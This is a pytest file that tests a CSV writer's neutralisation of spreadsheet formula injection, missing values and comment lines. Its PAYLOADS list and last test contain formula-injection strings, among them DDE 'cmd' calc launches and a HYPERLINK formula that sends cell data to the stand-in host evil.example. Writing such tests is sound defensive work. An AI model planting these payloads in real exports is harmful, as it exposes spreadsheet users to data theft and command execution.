"""The one CSV writer: comment lines, missing values, and spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from data.ingest.report import Report
from data.queries.csv_export import csv_bytes, csv_text, safe_cell

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+44 20 7946 0000",
    "-inf",
    "=-3",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload
    assert cells(csv_text([["value"], [payload]]))[1] == ["'" + payload]


@pytest.mark.parametrize("number", [-3, -2.5, 0, 7, "-3", "+4.5", "-0.25", "-1e3", ".5"])
def test_numbers_and_plain_numeric_text_stay_numbers(number):
    assert safe_cell(number) == number
    assert cells(csv_text([[number]])) == [[str(number)]]


@pytest.mark.parametrize("text", ["plain", "Mrs [redacted: name]", "a=b", "x-y", "1-2", "'=1"])
def test_other_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("missing", [None, float("nan"), pd.NA, pd.NaT])
def test_missing_values_are_empty_cells(missing):
    assert safe_cell(missing) == ""


def test_a_frame_gets_its_header_and_comment_lines_and_crlf_line_ends():
    frame = pd.DataFrame({"group": ["=cmd", "OLM"], "mean": [-1.5, math.nan], "n": [3, 4]})
    text = csv_text(frame, ["Filters: all periods", "Data version: 7\nsecond line"])
    assert text.split("\r\n") == [
        "# Filters: all periods",
        "# Data version: 7 second line",  # a comment never spills onto a row of its own
        "group,mean,n",
        "'=cmd,-1.5,3",
        "OLM,,4",
        "",
    ]


def test_column_names_are_neutralised_too():
    assert csv_text(pd.DataFrame({"=x": [1]})).startswith("'=x\r\n")


def test_csv_bytes_carries_a_byte_order_mark_for_excel():
    data = csv_bytes([["name"], ["Café"]])
    assert data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8-sig") == "name\r\nCafé\r\n"


def test_the_upload_problem_report_neutralises_what_the_uploader_typed():
    report = Report()
    report.add("Findings", 3, "description", '=HYPERLINK("http://evil.example")', "too long")
    assert cells(report.to_csv()) == [
        ["sheet", "row", "column", "value", "problem"],
        ["Findings", "3", "description", '\'=HYPERLINK("http://evil.example")', "too long"],
    ]
